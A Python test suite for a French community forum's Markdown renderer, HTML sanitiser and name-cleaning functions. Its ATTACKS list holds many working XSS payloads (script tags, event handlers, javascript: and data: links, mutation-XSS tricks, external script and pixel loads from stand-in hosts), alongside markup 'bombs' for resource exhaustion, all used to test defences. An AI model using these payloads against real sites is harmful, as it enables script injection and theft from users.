"""What people type in Brioude, and what strangers would like to type there."""

import re
import unicodedata
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from entente import text

TAGS = {"p", "br", "hr", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "em", "strong", "s", "a"}
TAGS |= {"code", "pre", "div", "table", "thead", "tbody", "tr", "th", "td"}
VOID = {"br", "hr"}
FRAME = {"class": "table-scroll", "role": "group", "tabindex": "0", "aria-label": "Tableau"}


@dataclass
class Page(HTMLParser):
    """A page as a browser would read it: its tags, its attributes, its words, its depth."""

    html: str
    elements: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    words: str = ""
    depth: int = 0
    open: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.feed(self.html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len(attrs) == len(dict(attrs)), f"a repeated attribute in {self.get_starttag_text()}"
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)
            self.depth = max(self.depth, len(self.open))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment  # type: ignore[assignment]

    def tags(self) -> list[str]:
        return [tag for tag, _ in self.elements]

    def addresses(self) -> list[str]:
        return [str(attrs["href"]) for tag, attrs in self.elements if tag == "a" and "href" in attrs]


def leads_somewhere_allowed(address: str) -> bool:
    """Reads an address as browsers do: no tabs, newlines or leading controls, backslashes as slashes."""
    seen = re.sub(r"[\t\r\n]", "", address).lstrip("".join(map(chr, range(33)))).replace("\\", "/").lower()
    return seen.startswith(("http://", "https://", "mailto:")) or (seen[:1] == "/" and seen[:2] != "//")


def harmless(html: str) -> Page:
    """The page, once we know that it only has what we allow, and that reading it again changes nothing."""
    assert text.sanitise(html) == html
    return allowed(html)


def allowed(html: str) -> Page:
    """The page, once we know that nothing in it can run, dress up, or lead where it should not."""
    page = Page(html)
    assert page.open == []
    for tag, attrs in page.elements:
        assert tag in TAGS
        match tag:
            case "a":
                assert set(attrs) <= {"href", "rel"}
                assert attrs["rel"] == "nofollow ugc noopener"
            case "ol":
                assert set(attrs) <= {"start"}
                assert (attrs.get("start") or "0").isdecimal()
            case "div":
                assert attrs == FRAME
            case _:
                assert attrs == {}
    assert [address for address in page.addresses() if not leads_somewhere_allowed(address)] == []
    return page


ATTACKS = [
    # scripts and their disguises
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<body onload=alert(1)>",
    "<b onmouseover=alert(1)>gras</b>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=/ onclick=alert(1)>x</a>",
    "<p ONCLICK=alert(1)>x</p>",
    "<div onpointerenter=alert(1)>x</div>",
    "<x onclick=alert(1) contenteditable>x</x>",
    # addresses that run
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://a.example/1">x</a>',
    '<a href="//x.example">x</a>',
    '<a href="/\\x.example">x</a>',
    '<a href="\\\\x.example">x</a>',
    '<a href="/\t/x.example">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:https://a.example">x</a>',
    # Markdown's own doors
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//x.example)",
    "[x](/\\x.example)",
    "[x](/&#9;/x.example)",
    "[x](https:x.example)",
    "[x](page)",
    "[x](#ancre)",
    "[x](?next=1)",
    "[x](/a 'b\" onclick=\"alert(1)')",
    '[x](/a"onclick="alert(1))',
    '[x](</a" onclick="alert(1)>)',
    "[x](</<table>>)",
    "[x](http://[)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: /a 'title\" onclick=\"alert(1)'\n\n[x] [x][] [y][x]",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "![x](https://spy.example/pixel.gif)",
    '![x" onerror="alert(1)](/a.png)',
    "![x](/a.png 'x\" onerror=\"alert(1)')",
    "![<script>alert(1)</script>](/a.png)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "![[x](javascript:alert(1))](/a.png)",
    "[**x <https://a.example> *y**](/b) z*",
    "[*x <a@b.example> `y` ![z](/c)*](/b)",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "<https://a.example/%22%3E%3Cscript%3E>",
    '<a@b.example?body="onclick=alert(1)>',
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "|<script>|b|\n|:-:|-:|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "# <script>alert(1)</script>\n<b id=x>\n===",
    "999999999. <script>alert(1)</script>",
    # foreign worlds and mutations
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=data:image/svg+xml,x></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><td><script>alert(1)</script><table><a href=javascript:alert(1)>x",
    "<a href=/a><a href=/b><table><a href=javascript:alert(1)>x",
    "<plaintext><b>",
    # what htmx, styles and scripts of ours would obey
    "<b hx-get=/admin hx-trigger=load>x</b>",
    "<a hx-post=/closure hx-on:click=alert(1) href=/>x</a>",
    "<div data-hx-get=/admin sse-connect=/live>x</div>",
    "<p hx-swap-oob=beforeend:body>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<p class=only-mine id=message-1 name=me>x</p>",
    "<div class=evil role=alert tabindex=9 aria-label=x>x</div>",
    "<table class=x data-x=y id=z><tr><td style=x colspan=999>x</table>",
    "<ol start='1\" onclick=\"alert(1)' type=A reversed><li value=9>x</ol>",
    "<a rel=opener target=_top ping=//x.example download href=/x>x</a>",
    # whole pages
    "<form action=//x.example><input name=password><button formaction=javascript:alert(1)>x</form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/x.css>",
    "<style>@import '//x.example/x.css';</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html,x></object><embed src=//x.example>",
    "<dialog open>x</dialog><portal src=//x.example>",
    "<img srcset='//x.example/a 1x'><audio src=//x.example autoplay>",
    # letters that lie
    "[https://brioude.example](https://x.example/\u202e)",
    "<https://x.example/%E2%80%AEgpj.exe>",
    "[x](\u200bjavascript:alert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](javaſcript:alert(1))",
    "<ſcript>alert(1)</ſcript><\u017fcript>",
    "\ud800<script>\udfff",
    "\ufeff<script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_stranger_types_does_nothing(attack: str) -> None:
    """Typed in a message, alone or inside what messages are made of, it is only words and allowed links."""
    for around in ("{}", "> {}", "- {}", "**{}**", "[{}](/a)", "a|b\n-|-\n{}|c", "texte {} texte"):
        harmless(text.to_html(around.format(attack)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_sanitiser_alone_would_be_enough(attack: str) -> None:
    """Were Markdown to let a tag through one day, the second door would stop it."""
    once = text.sanitise(attack.encode("utf-8", "replace").decode())
    allowed(once)
    harmless(text.sanitise(once))


def test_allowed_links_still_lead_somewhere() -> None:
    """Awa links the site of Aubrac, its mail and a thread; each link says it vouches for nothing."""
    page = harmless(
        text.to_html("[a](https://aubrac.example/a?b=1&c=2) <http://b.example> <awa@aubrac.example> [d](/forums/5)")
    )
    assert page.addresses() == [
        "https://aubrac.example/a?b=1&c=2",
        "http://b.example",
        "mailto:awa@aubrac.example",
        "/forums/5",
    ]


def test_a_refused_link_stays_as_it_was_typed() -> None:
    """Nothing disappears: what may not be a link is read as text."""
    page = harmless(text.to_html("[x](javascript:alert(1)) <data:a> [y](//b.example) <b>c</b>"))
    assert page.words == "[x](javascript:alert(1)) <data:a> [y](//b.example) <b>c</b>\n"
    assert page.tags() == ["p"]


def test_an_address_shown_is_the_address_typed() -> None:
    """A hidden control in an address is not decoded into something that turns the line around."""
    page = harmless(text.to_html("<https://a.example/%E2%80%AEx>"))
    assert page.words == "https://a.example/%E2%80%AEx\n"


def test_everyday_writing_keeps_its_shape() -> None:
    """Bruno writes minutes: a list that starts at 3, a deletion, a break, some code, a quote."""
    html = text.to_html("3. *un* **deux**\n4. ~~trois~~\n\nune\nligne\n\n> `a < b`\n\n---\n\n```py\nx = 1\n```")
    harmless(html)
    assert html == (
        '<ol start="3">\n<li><em>un</em> <strong>deux</strong></li>\n<li><s>trois</s></li>\n</ol>\n'
        "<p>une<br>\nligne</p>\n<blockquote>\n<p><code>a &lt; b</code></p>\n</blockquote>\n<hr>\n"
        "<pre><code>x = 1\n</code></pre>\n"
    )


def test_french_typography_is_left_as_typed() -> None:
    """Neither added nor taken away."""
    page = harmless(text.to_html('« Oui\u00a0»\u202f; "non" - 14\u202fh\u202f30 …'))
    assert page.words == '« Oui\u00a0»\u202f; "non" - 14\u202fh\u202f30 …\n'


def test_control_characters_do_not_travel() -> None:
    """No feed and no mail could carry them."""
    assert text.to_html("a\x00b\x1bc\x9fd\ue000") == "<p>abcd\ue000</p>\n"


def test_a_quote_ends_where_its_marks_end() -> None:
    """Bruno answers just under a line he quotes, and his answer is his."""
    html = text.to_html("> La lame ?\nElle est\nprête.")
    assert html == "<blockquote>\n<p>La lame ?</p>\n</blockquote>\n<p>Elle est<br>\nprête.</p>\n"


@pytest.mark.parametrize(
    ("typed", "levels"),
    [
        ("# a\n## b\n# c", ["h3", "h4", "h3"]),
        ("### a\n# b\n### c\n## d", ["h3", "h3", "h4", "h4"]),
        ("# a\n## b\n### c\n#### d\n##### e\n###### f", ["h3", "h4", "h5", "h6", "h6", "h6"]),
        ("a\n=\n> ## b", ["h3", "h4"]),
    ],
)
def test_headings_stay_under_those_of_the_page(typed: str, levels: list[str]) -> None:
    """Whatever level is typed, the first is an h3 and none is skipped."""
    tags = harmless(text.to_html(typed)).tags()
    assert [tag for tag in tags if tag[0] == "h"] == levels


def test_a_table_scrolls_in_a_frame_of_ours() -> None:
    """A wide table gets a frame one can reach with the keyboard; its alignment brings no style."""
    page = harmless(text.to_html("|Lot|Prix|\n|:-|-:|\n|sel|12|"))
    assert page.elements[:2] == [("div", FRAME), ("table", {})]
    assert page.tags() == ["div", "table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]


def test_an_image_from_elsewhere_becomes_a_link() -> None:
    """No reader is announced to another server: the alternative text leads to the image instead."""
    page = harmless(text.to_html("![La *lame*](https://a.example/l.png) ![](/b.png) [![c](/c.png)](/d)"))
    assert page.addresses() == ["https://a.example/l.png", "/b.png", "/d"]
    assert page.words == "La lame /b.png c\n"
    assert text.to_html("![nulle part]()") == "<p>nulle part</p>\n"


@pytest.mark.parametrize(
    ("typed", "said"),
    [
        ("é" * 16_385, "32\u202f770 octets, pour 32\u202f768 au plus"),
        ("a\n" * 1_201, "1\u202f201 lignes, pour 1\u202f200 au plus"),
        ("[" * 1_001, "1\u202f001 crochets ouvrants, pour 1\u202f000 au plus"),
        ("*" * 3_001, "3\u202f001 signes de mise en forme (* _ ~ ` [ <), pour 3\u202f000 au plus"),
    ],
)
def test_a_text_that_asks_too_much_is_refused_with_figures(typed: str, said: str) -> None:
    """One step more than allowed is refused, in words that say what to do; one step less is read."""
    for read in (text.to_html, text.plain):
        with pytest.raises(text.TooLong) as refusal:
            read(typed)
        assert str(refusal.value) == (
            f"Votre texte est trop long\u00a0: {said}. Raccourcissez-le ou répartissez-le en plusieurs messages."
        )
    assert harmless(text.to_html(typed[: len(typed) * 1000 // 1001])).words


LIMIT = text.MAX_BYTES
BOMBS = {
    **{mark: mark * LIMIT for mark in "*_~`[]<>!&|-#\\(\"':=+\t \n"},
    **{mark: mark * (LIMIT // len(mark)) for mark in ("*_[`", "![](", "[a](b", "<a@b.c>", "[](/)", "&quot;")},
    **{mark: mark * (LIMIT // len(mark)) for mark in ("> ", "- ", "1. ", ">- ", "*a ", "**a *a ", "~~a ")},
    "quotes 50 deep": "> " * 50 + "fond",
    "quotes 5000 deep": ">" * 5_000 + " fond",
    "lists 5000 deep": "- " * 5_000 + "fond",
    "steps": "\n".join("  " * level + "- a" for level in range(150)),
    "restless quotes": "=\n>>>>>>>>>> # \n" * 550,
    "restless fences": "> > > ```\n~~- é\n" * 550,
    "emphasis": "*a " * 1_400 + "*" * 1_400,
    "strong": "**a " * 700 + "**" * 700,
    "brackets": "[" * 950 + "](/)" * 950,
    "images": "![" * 950 + "](/)" * 950,
    "references": "[a]: /" + "u" * 20_000 + "\n\n" + "[a]" * 950,
    "parentheses": "[a](" + "(" * 16_000 + ")" * 16_000,
    "wide table": "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n" + "|\n" * 1_100,
    "square table": "|a" * 256 + "\n" + "|-" * 256 + "\n" + "|\n" * 1_100,
    "long table": "a|b|c|d|e\n-|-|-|-|-\n" + "a|b|c|d|e\n" * 1_100,
    "many tables": ("|a" * 20 + "\n" + "|-" * 20 + "\n" + "|\n" * 100 + "\n") * 11,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_refused_or_stays_small(name: str) -> None:
    """No text grows into more tags, more cells, more depth or more bytes than a page can bear."""
    bomb = BOMBS[name]
    assert len(text.excerpt(bomb)) <= 180
    try:
        html = text.to_html(bomb)
    except text.TooLong:
        return
    page = harmless(html)
    assert page.depth <= text.MAX_DEPTH + text.MAX_EMPHASIS + 8
    assert len(re.findall("<t[hd]>", html)) <= text.MAX_CELLS
    assert len(page.elements) <= text.MAX_MARKS + text.MAX_LINES * (text.MAX_DEPTH + 2) + 2 * text.MAX_CELLS
    assert len(html) <= 12 * text.MAX_BYTES


@pytest.mark.parametrize(("typed", "depth"), [("> " * 50, 8), (">" * 5_000, 8), ("- " * 50, 8), ("- " * 5_000, 8)])
def test_what_is_too_deep_is_still_read(typed: str, depth: int) -> None:
    """Beyond eight levels the marks are only text, and the words at the bottom are not lost."""
    page = harmless(text.to_html(typed + "fond"))
    assert [tag for tag in page.tags() if tag not in {"p", "br"}] == page.tags()[:depth]
    assert page.words.strip().endswith("fond")


def test_emphasis_too_deep_keeps_its_stars() -> None:
    """Six levels are drawn, the seventh is read as it was typed."""
    page = harmless(text.to_html("**a " * 8 + "b" + "**" * 8))
    assert page.tags() == ["p"] + ["strong"] * 6
    assert page.words == "a a a a a a **a **a b****\n"


def test_a_table_beyond_its_cells_goes_on_as_text() -> None:
    """The two thousandth cell is the last; the lines that follow are read without a frame."""
    rows = [f"n{row}|x|x" for row in range(900)]
    page = harmless(text.to_html("\n".join(["a|b|c", "-|-|-", *rows])))
    assert page.tags().count("td") + page.tags().count("th") == 1_998
    assert "n899|x|x" in page.words


MARKDOWN = st.lists(
    st.sampled_from([*"*_~`[]()<>!&|-#\\\"':;=+ \n\t/a1.éx", "](", "![", "<a ", "http://", "javascript:", "&#x6a;"])
    | st.sampled_from(["> ", "- ", "1. ", "```\n", "\n\n", "a|b\n-|-\n", "<script>", "onclick=", "](/", "<b id=x>"])
    | st.text(max_size=3),
    max_size=60,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(MARKDOWN | st.text(alphabet=st.characters(), max_size=80))
@example("[x](/a\r\n)&#13;&#10;\x85\u2028")
def test_whatever_is_typed_is_harmless_and_stable(typed: str) -> None:
    """No text we can think of, or not, yields a tag, an attribute or an address we do not allow."""
    harmless(text.to_html(typed))
    assert text.plain(typed) == text.clean_name(text.plain(typed))
    assert len(text.excerpt(typed, 20)) <= 20


def test_an_excerpt_gives_ones_own_words_first() -> None:
    """Bruno quotes Awa before he answers: the list shows his answer, the search finds both."""
    reply = "> La lame est-elle prête ?\n\nOui, **elle** l'est, [voyez](/f/1) ![photo](/p.png)\n\n|a|b|\n|-|-|\n|1|2|"
    assert text.excerpt(reply) == "Oui, elle l'est, voyez photo a b 1 2"
    assert text.plain(reply) == "La lame est-elle prête ? Oui, elle l'est, voyez photo a b 1 2"
    assert text.excerpt("> Seulement cité") == "Seulement cité"


@pytest.mark.parametrize(
    ("length", "shown"),
    [
        (40, "La lame, enfin\u00a0: prête à 14\u202fh\u202f30 demain"),
        (39, "La lame, enfin\u00a0: prête à 14\u202fh\u202f30 demain"),
        (38, "La lame, enfin\u00a0: prête à 14\u202fh\u202f30…"),
        (27, "La lame, enfin\u00a0: prête à…"),
        (9, "La lame…"),
        (8, "La…"),
        (2, "L…"),
        (1, "…"),
    ],
)
def test_an_excerpt_is_cut_between_two_words(length: int, shown: str) -> None:
    """Never inside a word, nor after a comma, nor inside an hour held together by its spaces."""
    assert text.excerpt("La lame, **enfin**\u00a0: prête à\n14\u202fh\u202f30 demain", length) == shown


def test_an_excerpt_never_refuses() -> None:
    """A text imported from elsewhere may be too long to post: only its beginning is read, and it shows."""
    assert text.excerpt("phrase " * 20_000, 15) == "phrase phrase…"
    assert text.excerpt("> cité\n" * 1_000 + "\nréponse", 10) == "cité cité…"


@pytest.mark.parametrize(
    ("typed", "read"),
    [
        ("  Awa \t\n Diallo  ", "Awa Diallo"),
        ("e\u0301te\u0301", "été"),
        ("e\u034f\u0301", "é"),
        ("L’Aubrac\u00a0: la suite\u202f!", "L’Aubrac\u00a0: la suite\u202f!"),
        ("a \u00a0 b", "a\u00a0b"),
        ("Bru\u200bno\u2060\ufeff\u00ad", "Bruno"),
        ("\u202eonurB\u202c \u2066x\u2069 \u061c\u200f", "onurB x"),
        ("Bruno\u3164\u115f\u2800\uffa0", "Bruno"),
        ("Br\x00u\x1bn\x7fo\x9d", "Bruno"),
        ("Awa\u2028Diallo\x85fin", "Awa Diallo fin"),
        ("Awa\ufe0f\U000e0041\ud800", "Awa"),
        ("<b>&amp;</b>", "<b>&amp;</b>"),
        ("\u200b \u202e", ""),
    ],
)
def test_a_name_hides_nothing(typed: str, read: str) -> None:
    """Two names that look the same are the same, and none can turn the page around."""
    assert text.clean_name(typed) == read


@settings(max_examples=300, deadline=None)
@given(
    st.text(
        alphabet=st.characters() | st.sampled_from(" \u00a0\u202f\u200b\u202e\u0301e\ufe0f\x00\n"),
        max_size=40,
    )
)
def test_a_clean_name_is_clean_for_good(name: str) -> None:
    """Cleaning twice changes nothing, and no control, direction or double space is left."""
    clean = text.clean_name(name)
    assert text.clean_name(clean) == clean
    assert unicodedata.is_normalized("NFC", clean)
    assert clean == clean.strip()
    assert re.search(r"\s\s", clean) is None
    assert [letter for letter in clean if unicodedata.category(letter) in ("Cc", "Cs", "Zl", "Zp")] == []
    assert [letter for letter in clean if unicodedata.bidirectional(letter) in BIDI] == []


BIDI = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def test_a_pasted_address_becomes_a_link_without_the_stop_that_follows_it() -> None:
    """Bruno pastes an address in the middle of a sentence; one can click it."""
    html = text.to_html("Voir https://www.legifrance.gouv.fr/loda?a=1&b=2, puis `https://reste.tel/quel`.")

    assert 'href="https://www.legifrance.gouv.fr/loda?a=1&amp;b=2"' in html
    assert "<code>https://reste.tel/quel</code>" in html
    assert html.count("<a ") == 1


def test_a_text_of_nothing_but_addresses_makes_a_bounded_number_of_links() -> None:
    """Three thousand addresses in one message cost no more than three hundred."""
    assert text.to_html("http://a.b " * 2_900).count("<a ") == text.MAX_BARE_LINKS


def test_a_handle_that_is_known_leads_where_it_is_said() -> None:
    """Accents and capitals do not matter; code, links and addresses are left alone; the rest stays words."""
    calls = {
        "ines-vidal": text.Link("/annuaire/1", "@Inès Vidal"),
        "commune:l-isle": text.Link("/annuaire?organisation=2", "@L’Isle"),
    }
    html = text.to_html("@Inès-Vidal, @commune:L-Isle ! `@ines-vidal` a@ines-vidal @autre [@ines-vidal](/x)", calls)

    rel = 'rel="nofollow ugc noopener"'
    assert html.strip() == (
        f'<p><a href="/annuaire/1" {rel}>@Inès Vidal</a>, <a href="/annuaire?organisation=2" {rel}>@L’Isle</a> ! '
        f'<code>@ines-vidal</code> a@ines-vidal @autre <a href="/x" {rel}>@ines-vidal</a></p>'
    )


def test_a_handle_names_and_leads_nowhere_else() -> None:
    """Even if a name were markup or an address were a script, neither passes."""
    calls = {"a": text.Link("javascript:alert(1)", "<script>alert(1)</script>"), "b": text.Link("//evil.example", "b")}
    html = text.to_html("@a @b", calls)
    assert "<script" not in html
    assert "href" not in html


def test_handles_are_those_of_ones_own_words() -> None:
    """In order, each once: not those that are quoted, in code, or inside a link."""
    written = "@b-c @a\n\n> @cité\n\n- **@D** `@code` [@lien](/x) @a https://x.y/@non"
    assert text.handles_in(written) == ["b-c", "a", "d"]


def test_thousands_of_handles_make_few_links() -> None:
    """The same name a thousand times is mostly words."""
    html = text.to_html("@a " * 1_000, {"a": text.Link("/annuaire/1", "@A" * 50)})
    assert html.count("<a ") == text.MAX_CALLS
